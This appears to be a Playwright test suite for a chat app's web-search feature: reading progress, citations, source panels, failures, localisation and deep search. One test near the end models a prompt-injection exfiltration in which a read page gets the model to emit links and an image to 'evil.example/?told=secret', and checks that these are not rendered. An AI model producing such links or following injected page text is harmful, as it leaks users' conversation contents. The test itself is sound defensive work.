"""The web in an answer, in the real site with its real worker: watched while it is read, cited, opened as read."""

import re

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from chatapp.accounts.models import User
from chatapp.endpoints.models import Endpoint
from chatapp.searches.models import Search, WebSetting
from tests.browser.chat import Chat, Person
from tests.browser.conftest import SCREENSHOTS
from tests.browser.site import Site
from tests.browser.web import Internet
from tests.browser.written_endpoint import WrittenEndpoint

QUESTION = "When did a flood break the eastern wall of the harbour station?"
QUERIES = ["Talmar harbour station flood", "eastern wall flood Talmar", "harbour station repairs"]
ANSWER = "The flood broke the eastern wall [1], and the repairs took two winters [2]. Again the wall [1]."
PANEL = "[data-panel]"
ALL = [f"/en/{number}" for number in range(8)]


@pytest.fixture
def asking(chat: Chat, internet: Internet, endpoint: WrittenEndpoint) -> Chat:
    """The toggle is on; the model knows what to search for and how to answer."""
    endpoint.answers[QUESTION] = ANSWER
    endpoint.queries[QUESTION] = QUERIES
    with chat.page.expect_response("**/preferences"):
        chat.page.get_by_role("button", name="Search", exact=True).click()
    return chat


def search_of(chat: Chat) -> Locator:
    return chat.answers.last.locator("[data-search]")


def line_of(chat: Chat) -> Locator:
    return search_of(chat).locator("summary")


def is_open(search: Locator) -> bool:
    return bool(search.evaluate("search => search.open"))


def test_from_the_toggle_to_the_passage_in_the_frozen_copy(asking: Chat, internet: Internet, page: Page) -> None:
    internet.hold(*ALL)
    asking.ask(QUESTION)
    search = search_of(asking)
    expect(search.get_by_text(QUERIES[0])).to_be_visible(timeout=15_000)
    expect(search.locator(".web-search__query")).to_have_count(3)
    expect(line_of(asking)).to_have_text("Read 0 of 8 pages…")
    internet.let_go(*ALL[:3])
    expect(line_of(asking)).to_have_text("Read 3 of 8 pages…")
    expect(search.locator(".web-search__page--reading")).to_have_count(5)
    page.screenshot(path=SCREENSHOTS / "web-reading.png")
    internet.let_go()
    asking.wait_for_end()
    expect(line_of(asking)).to_have_text("Searched the web: 3 queries, 8 pages read")
    assert not is_open(search), "one line once the answer begins"
    assert sorted(internet.queries) == sorted(QUERIES)
    asking.wait_for_check()
    marks = asking.text().locator("button.mark")
    expect(marks).to_have_text(["1", "2", "1"])
    page.screenshot(path=SCREENSHOTS / "web-answer.png")
    marks.first.click()
    panel = page.locator(PANEL)
    expect(panel.locator("[data-source]")).to_have_attribute("data-source-kind", "text")
    hit = panel.locator(".source__hit").first
    expect(hit).to_be_in_viewport()
    expect(panel.locator(".source__hit").filter(has_text="flood broke the eastern wall")).to_be_visible()
    expect(panel.get_by_text("Talmar Chronicle")).to_be_visible()
    link = panel.get_by_role("link", name="Open the live page")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("href", re.compile(r"^http://talmar\.test:\d+/en/\d+#:~:text="))
    page.screenshot(path=SCREENSHOTS / "web-copy.png")


def test_all_pages_read_in_the_side_list(asking: Chat, page: Page) -> None:
    asking.ask(QUESTION)
    asking.wait_for_end()
    asking.wait_for_check()
    line_of(asking).click()
    search_of(asking).get_by_role("button", name="All pages read").click()
    panel = page.locator(PANEL)
    expect(panel.get_by_role("heading", name="8 pages read")).to_be_focused()
    rows = panel.locator(".pages__row")
    expect(rows).to_have_count(8)
    expect(rows.first.locator(".sources__mark")).to_have_text(["1", "2"])
    page.screenshot(path=SCREENSHOTS / "web-pages.png")
    rows.last.get_by_role("button").click()
    expect(panel.get_by_text("The text of this page as it was read")).to_be_visible()
    expect(panel.get_by_role("heading", level=2)).to_be_focused()
    expect(panel.locator(".source__hit")).to_have_count(0)
    panel.get_by_role("button", name="All pages read").click()
    expect(rows).to_have_count(8)
    page.keyboard.press("Escape")
    expect(search_of(asking).get_by_role("button", name="All pages read")).to_be_focused()


def test_card_of_a_mark_by_mouse_and_by_keyboard(asking: Chat, page: Page) -> None:
    asking.ask(QUESTION)
    asking.wait_for_end()
    asking.wait_for_check()
    mark, card = asking.text().locator("button.mark").first, page.get_by_role("tooltip")
    expect(card).to_be_hidden()
    mark.hover()
    expect(card).to_be_visible()
    expect(card).to_contain_text("Talmar Chronicle")
    expect(card).to_contain_text("2024")
    expect(card).to_contain_text("wall")
    page.screenshot(path=SCREENSHOTS / "web-card.png")
    card.hover()
    expect(card).to_be_visible()
    page.mouse.move(5, 5)
    expect(card).to_be_hidden()
    asking.field.focus()
    mark.focus()
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Tab")
    expect(mark).to_be_focused()
    expect(card).to_be_visible()
    expect(mark).to_have_attribute("aria-describedby", "hover-card")
    page.keyboard.press("Escape")
    expect(card).to_be_hidden()
    expect(mark).to_be_focused()


def test_queries_are_seen_changed_and_sent(asking: Chat, internet: Internet, page: Page) -> None:
    WebSetting.objects.update(confirms_queries=True)
    asking.ask(QUESTION)
    fields = search_of(asking).get_by_role("textbox")
    expect(fields).to_have_count(3, timeout=15_000)
    expect(fields.first).to_have_value(QUERIES[0])
    assert internet.queries == []
    page.screenshot(path=SCREENSHOTS / "web-confirm.png")
    fields.first.fill("harbour of Talmar")
    fields.last.fill("")
    fields.first.press("Enter")
    asking.wait_for_end()
    assert sorted(internet.queries) == ["eastern wall flood Talmar", "harbour of Talmar"]
    expect(line_of(asking)).to_have_text("Searched the web: 2 queries, 8 pages read")


def test_answer_without_the_search(asking: Chat, internet: Internet, page: Page) -> None:
    WebSetting.objects.update(confirms_queries=True)
    asking.ask(QUESTION)
    search_of(asking).get_by_role("button", name="Answer without searching").click(timeout=15_000)
    asking.wait_for_end()
    expect(line_of(asking)).to_have_text("Not searched")
    assert internet.queries == []


def test_stopped_while_it_searches(asking: Chat, internet: Internet, page: Page) -> None:
    internet.hold(*ALL)
    asking.ask(QUESTION)
    expect(line_of(asking)).to_have_text("Read 0 of 8 pages…", timeout=15_000)
    page.get_by_role("button", name="Stop").click()
    asking.wait_for_end("cancelled")
    expect(line_of(asking)).to_have_text("The search was stopped")
    assert Search.objects.get(answer__message__conversation=asking.conversation).state == "cancelled"


def test_engine_that_is_down_is_no_empty_search(asking: Chat, internet: Internet, page: Page) -> None:
    internet.is_down = True
    asking.ask(QUESTION)
    asking.wait_for_end()
    expect(line_of(asking)).to_have_text("The web could not be searched")
    expect(search_of(asking).get_by_text("SearXNG had an error of its own")).to_be_visible()
    expect(search_of(asking).get_by_text("results")).to_have_count(0)
    page.screenshot(path=SCREENSHOTS / "web-engine-down.png")


def test_failures_are_told_engine_by_engine_and_page_by_page(asking: Chat, internet: Internet, page: Page) -> None:
    internet.failures = [("mojeek", "timeout"), ("google", "CAPTCHA")]
    traps = ["/wall", "/404", "/shell"]
    internet.urls = [*internet.urls[:2], *(internet.web.url("traps.test", path) for path in traps)]
    internet.urls.append(internet.web.url("closed.test", "/page"))
    asking.ask(QUESTION)
    asking.wait_for_end()
    expect(line_of(asking)).to_have_text("Searched the web: 3 queries, 2 pages read · 2 engines failed")
    line_of(asking).click()
    search = search_of(asking)
    for words in (
        "mojeek did not answer in time",
        "google refused us as a program",
        "shows only a sign-in or a consent form",
        "answered with error 404",
        "made by scripts, which are not run",
        "its site asks programs not to read it",
    ):
        expect(search.get_by_text(words)).to_be_visible()
    page.screenshot(path=SCREENSHOTS / "web-failures.png")


def test_steps_that_were_opened_stay_open(
    asking: Chat, internet: Internet, endpoint: WrittenEndpoint, page: Page
) -> None:
    asking.ask(QUESTION)
    asking.wait_for_end()
    line_of(asking).click()
    assert is_open(search_of(asking))
    asking.wait_for_check()
    assert is_open(search_of(asking)), "through a newer element of its message"


def test_on_a_phone_in_the_dark(asking: Chat, internet: Internet, page: Page) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    page.emulate_media(color_scheme="dark")
    internet.hold(*ALL)
    asking.ask(QUESTION)
    expect(line_of(asking)).to_have_text("Read 0 of 8 pages…", timeout=15_000)
    internet.let_go(*ALL[:4])
    expect(line_of(asking)).to_have_text("Read 4 of 8 pages…")
    page.screenshot(path=SCREENSHOTS / "web-phone-reading.png")
    internet.let_go()
    asking.wait_for_end()
    asking.wait_for_check()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.screenshot(path=SCREENSHOTS / "web-phone-answer.png")
    asking.text().locator("button.mark").first.click()
    sheet = page.get_by_role("dialog", name="Source")
    expect(sheet.locator(".source__hit").first).to_be_in_viewport()
    page.screenshot(path=SCREENSHOTS / "web-phone-copy.png")


def test_no_request_leaves_for_a_foreign_site(asking: Chat, page: Page) -> None:
    foreign: list[str] = []
    page.on(
        "request", lambda request: foreign.append(request.url) if not request.url.startswith(page.url[:20]) else None
    )
    asking.ask(QUESTION)
    asking.wait_for_end()
    asking.wait_for_check()
    line_of(asking).click()
    asking.text().locator("button.mark").first.click()
    expect(page.locator(PANEL).locator(".source__hit").first).to_be_visible()
    assert foreign == []


def test_address_in_a_question_is_read_without_the_toggle(
    chat: Chat, internet: Internet, endpoint: WrittenEndpoint
) -> None:
    question = f"What broke the wall? {internet.urls[0]}"
    endpoint.answers[question] = "A flood [1]."
    chat.ask(question)
    chat.wait_for_end()
    expect(line_of(chat)).to_have_text("Read “harbour station | Talmar”")
    expect(chat.text().get_by_role("button", name=re.compile("Source 1"))).to_be_visible()
    assert internet.queries == []


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("de", "Web durchsucht: 3 Anfragen, 8 Seiten gelesen · 1 Suchmaschine ausgefallen"),
        ("zh-hans", "已搜索网页：3 个搜索词，已阅读 8 个网页 · 1 个搜索引擎出错"),
    ],
)
def test_in_the_language_of_the_person(
    language: str, line: str, asking: Chat, internet: Internet, page: Page, person: Person
) -> None:
    User.objects.filter(pk=person.id).update(language=language)
    internet.failures = [("mojeek", "timeout")]
    page.reload(wait_until="networkidle")  # the words of JavaScript are there as well
    field = page.locator("[data-text]")
    field.fill(QUESTION)
    field.press("Enter")
    expect(line_of(asking)).to_have_text(line, timeout=20_000)
    expect(asking.answers.last).to_have_attribute("data-status", "finished")
    line_of(asking).click()
    search_of(asking).locator("[data-action=pages]").click()
    expect(page.locator(PANEL).locator(".pages__row")).to_have_count(8)
    page.screenshot(path=SCREENSHOTS / f"web-{language}.png")


def test_deep_search_goes_on_from_what_it_has_found(
    chat: Chat, internet: Internet, endpoint: WrittenEndpoint, model: Endpoint, page: Page
) -> None:
    endpoint.answers[QUESTION] = ANSWER
    endpoint.tool_calls = [
        ("search_web", {"queries": ["Talmar floods", "harbour station"]}),
        ("read_page", {"url": internet.urls[0]}),
        ("search_web", {"queries": ["iron bridge of Talmar"]}),
    ]
    Endpoint.objects.filter(pk=model.pk).update(model="tools", tools=True, context_length=65_536)
    internet.hold("/en/5")
    page.reload()
    page.get_by_role("button", name="Deep search").click()
    chat.ask(QUESTION)
    searches = chat.answers.last.locator("[data-search]")
    expect(searches.first.locator("summary")).to_contain_text("of 8 pages…", timeout=15_000)
    internet.let_go()
    expect(searches).to_have_count(3, timeout=20_000)
    chat.wait_for_end()
    expect(searches.locator("summary")).to_have_text(
        [
            "Searched the web: 2 queries, 8 pages read",
            "Read “harbour station | Talmar”",
            "Searched for “iron bridge of Talmar”: 8 pages read",
        ]
    )
    chat.wait_for_check()
    page.screenshot(path=SCREENSHOTS / "web-deep.png")
    expect(chat.answers.last.locator("[data-search-budget]")).to_contain_text("2 of 6 searches")


def test_an_answer_links_to_pages_that_were_read_and_nowhere_else(
    asking: Chat, internet: Internet, endpoint: WrittenEndpoint
) -> None:
    """A page may talk a model into an address that carries away what stands in the chat."""
    read = internet.urls[0]
    evil = "https://evil.example/?told=secret"
    endpoint.answers[QUESTION] = (
        f"See [the page]({read}#history) [1], [here]({evil}), ![a picture]({evil}) and {evil} or mailto:a@evil.example."
    )
    asking.ask(QUESTION)
    asking.wait_for_end()
    links = asking.text().locator("a")
    expect(links).to_have_count(1)
    expect(links).to_have_text("the page")
    expect(asking.text()).to_contain_text("here (evil.example), a picture (evil.example)")
    expect(asking.text()).to_contain_text(evil)
    endpoint.answers["Without a search?"] = f"See [here]({evil})."
    asking.page.get_by_role("button", name="Search", exact=True).click()
    asking.ask("Without a search?")
    asking.wait_for_end()
    expect(asking.text().locator("a")).to_have_count(1)


def test_touch_opens_the_source_at_once_and_shows_no_card(
    asking: Chat, browser: Browser, site: Site, person: Person
) -> None:
    asking.ask(QUESTION)
    asking.wait_for_end()
    asking.wait_for_check()
    context = browser.new_context(base_url=site.url, has_touch=True, viewport={"width": 390, "height": 844})
    context.add_cookies([person.cookie(site.url)])
    page = context.new_page()
    page.goto(f"/c/{asking.conversation}")
    page.locator("button.mark").first.tap()
    expect(page.locator(PANEL).locator(".source__hit").first).to_be_in_viewport()
    expect(page.get_by_role("tooltip")).to_be_hidden()
    context.close()
